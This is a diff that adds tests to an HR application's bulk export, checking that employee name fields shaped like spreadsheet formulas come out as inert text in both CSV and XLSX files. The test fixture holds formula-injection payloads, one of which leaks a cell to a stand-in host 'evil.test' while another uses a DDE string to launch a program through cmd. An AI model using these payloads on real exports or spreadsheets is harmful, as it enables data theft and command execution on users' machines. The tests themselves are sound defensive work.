@@ -151,3 +151,57 @@ describe('the bulk download of employee compensation', () => {
     expect(reply.status).toBe(403);
   });
 });
+
+/** Cells a spreadsheet would run as formulas, each in a field people type. */
+const FORMULAS = {
+  firstName: '=HYPERLINK("http://evil.test/?leak="&Q2)',
+  lastName: '+SUM(1+1)',
+  title: "-2+3+cmd|' /C calc'!A0",
+  department: '@SUM(1,2)',
+};
+
+describe('the bulk download of names that look like formulas', () => {
+  let admin: TestUser;
+  beforeAll(async () => {
+    const owner = await createTestCompany(await testDb(), 'Formula Names Co');
+    admin = owner.users.admin as TestUser;
+    const hired = await request<{ data: Employee }>('/api/employees', { method: 'POST', headers: bearer(admin), json: { employeeNumber: 'FX-1', currency: 'USD', ...FORMULAS } });
+    expect(hired.status).toBe(201);
+    const pay = await request(`/api/employees/${hired.body.data.id}/compensation`, {
+      method: 'POST',
+      headers: bearer(admin),
+      json: { type: 'base_salary', amount: { amount: 120_000_00, currency: 'USD' }, effectiveDate: '2024-04-01' },
+    });
+    expect(pay.status).toBe(201);
+  });
+
+  it('writes them to CSV as text, with a leading apostrophe, and the pay as it is', async () => {
+    const { file } = await exportAs(admin, { format: 'csv' });
+    const raw = await file.text();
+    const [row] = parse(raw, { columns: true }) as Record<string, string>[];
+    expect(row).toMatchObject({
+      'First name': `'${FORMULAS.firstName}`,
+      'Last name': `'${FORMULAS.lastName}`,
+      Title: `'${FORMULAS.title}`,
+      Department: `'${FORMULAS.department}`,
+      'Base salary': '120000.00',
+    });
+    // No line of the file has a cell that starts with a formula character.
+    for (const record of parse(raw) as string[][]) expect(record.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+
+  it('writes them to XLSX as plain strings, never formulas', async () => {
+    const { file } = await exportAs(admin, { format: 'xlsx' });
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await file.arrayBuffer());
+    const sheet = workbook.getWorksheet('Employee compensation');
+    const header = (sheet?.getRow(1).values as unknown[]).slice(1).map(String);
+    const cell = (name: string) => sheet?.getRow(2).getCell(header.indexOf(name) + 1);
+    for (const [column, value] of [['First name', FORMULAS.firstName], ['Last name', FORMULAS.lastName], ['Title', FORMULAS.title], ['Department', FORMULAS.department]] as const) {
+      expect(cell(column)?.type).toBe(ExcelJS.ValueType.String);
+      expect(cell(column)?.formula).toBeUndefined();
+      expect(cell(column)?.value).toBe(value);
+    }
+    expect(cell('Base salary')?.value).toBe(120_000);
+  });
+});
